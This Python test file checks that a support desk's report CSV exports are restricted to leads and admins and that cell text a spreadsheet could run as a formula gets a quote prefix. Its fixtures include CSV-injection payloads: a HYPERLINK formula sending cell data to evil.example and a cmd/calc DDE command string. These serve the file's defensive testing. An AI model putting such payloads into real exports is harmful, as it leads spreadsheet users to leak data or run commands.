"""The Reports CSV downloads: only leads and admins get them (agents and trainers are refused,
strangers asked to sign in), and text that a spreadsheet would run as a formula (a comment,
a category, an agent's name starting with = + - @, a tab or a carriage return) arrives as
text, prefixed with a quote."""
from __future__ import annotations

import csv
import io

from caredesk.db.models import Agent, Conversation, Feedback, Handoff, Ticket, utcnow
from bot.report_csv import TABLES, safe_cell
from tests.bot.conftest import add_agent
from tests.security.helpers import add_ticket

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def _rows(body: str) -> list[list[str]]:
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:], newline="")))


async def test_only_leads_and_admins_download_the_tables(gateway, sessions, sign_in) -> None:
    for username, role in (("ada", "admin"), ("lee", "lead"), ("dana", "agent"), ("tom", "trainer")):
        await add_agent(sessions, username, username.title(), role=role)
    await add_ticket(sessions)
    browsers = {name: await sign_in(name) for name in ("ada", "lee", "dana", "tom")}
    for table in TABLES:
        path = f"/api/reports/{table}.csv"
        assert (await gateway.get(path)).status == 401, table
        for name in ("dana", "tom"):
            refused = await browsers[name].get(path)
            assert refused.status == 403 and "text/csv" not in refused.headers["Content-Type"], (table, name)
        for name in ("ada", "lee"):
            response = await browsers[name].get(path + "?days=90")
            assert response.status == 200, (table, name)
            assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
            disposition = response.headers["Content-Disposition"]
            assert disposition.startswith(f'attachment; filename="caredesk-{table}-90d-'), disposition
            assert _rows(await response.text())[0], "a header row"
    lee = browsers["lee"]
    assert (await lee.get("/api/reports/agents.csv")).status == 404
    assert (await lee.get("/api/reports/weekly.csv?days=0")).status == 400
    assert (await lee.get("/api/reports/weekly.csv?days=abc")).status == 400
    complaints = _rows(await (await lee.get("/api/reports/complaints.csv")).text())
    assert complaints == [["category", "tickets", "share_percent"], ["late_delivery", "1", "100.0"]]


async def test_formula_text_is_quoted_in_every_table(gateway, sessions, sign_in) -> None:
    await add_agent(sessions, "lee", "Lee", role="lead")
    now = utcnow()
    async with sessions.begin() as session:
        session.add(Agent(username="mal", name="=cmd|' /C calc'!A0", password_hash="-", role="agent"))
        session.add(Conversation(id="c_1", channel="webchat"))
        await session.flush()
        for index, attack in enumerate(ATTACKS):
            session.add(Feedback(conversation_id="c_1", channel="webchat", rating=1, subject="agent",
                                 agent_username="mal", comment=attack))
            session.add(Ticket(channel="webchat", conversation_id="c_1", contact="x", contact_kind="chat",
                               category=attack[:32], description="-", desired_outcome="refund", severity="grumble",
                               priority="low", priority_score=40, promised_response_at=now))
        session.add(Handoff(conversation_id="c_1", channel="webchat", reason="@reason", priority="low",
                            priority_score=40, status="claimed", summary={}, promised_response_at=now,
                            claimed_at=now, claimed_by="x", agent_username="mal"))
    lee = await sign_in("lee")

    comments = _rows(await (await lee.get("/api/reports/comments.csv")).text())
    assert sorted(row[6] for row in comments[1:]) == sorted("'" + attack for attack in ATTACKS)
    assert {row[4] for row in comments[1:]} == {"'=cmd|' /C calc'!A0"}
    categories = _rows(await (await lee.get("/api/reports/complaints.csv")).text())
    assert sorted(row[0] for row in categories[1:]) == sorted("'" + attack[:32] for attack in ATTACKS)
    workload = _rows(await (await lee.get("/api/reports/workload.csv")).text())
    assert workload[1][:3] == ["mal", "'=cmd|' /C calc'!A0", "1"]
    satisfaction = _rows(await (await lee.get("/api/reports/satisfaction.csv")).text())
    assert satisfaction[1][:4] == ["agent", "mal", "'=cmd|' /C calc'!A0", "6"]
    handoffs = _rows(await (await lee.get("/api/reports/handoffs.csv")).text())
    assert handoffs[1] == ["'@reason", "1"]
    weekly = _rows(await (await lee.get("/api/reports/weekly.csv")).text())
    assert "handoffs_@reason" in weekly[0]  # starts with a letter: nothing to run
    for body in (comments, categories, workload, satisfaction, handoffs, weekly):
        for row in body:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_cell_is_quoted_only_when_a_spreadsheet_would_run_it() -> None:
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx")] == \
        ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx"]
    assert [safe_cell(v) for v in ("a=1", " =1", "", None, -3, 2.5, True)] == ["a=1", " =1", "", "", -3, 2.5, "yes"]
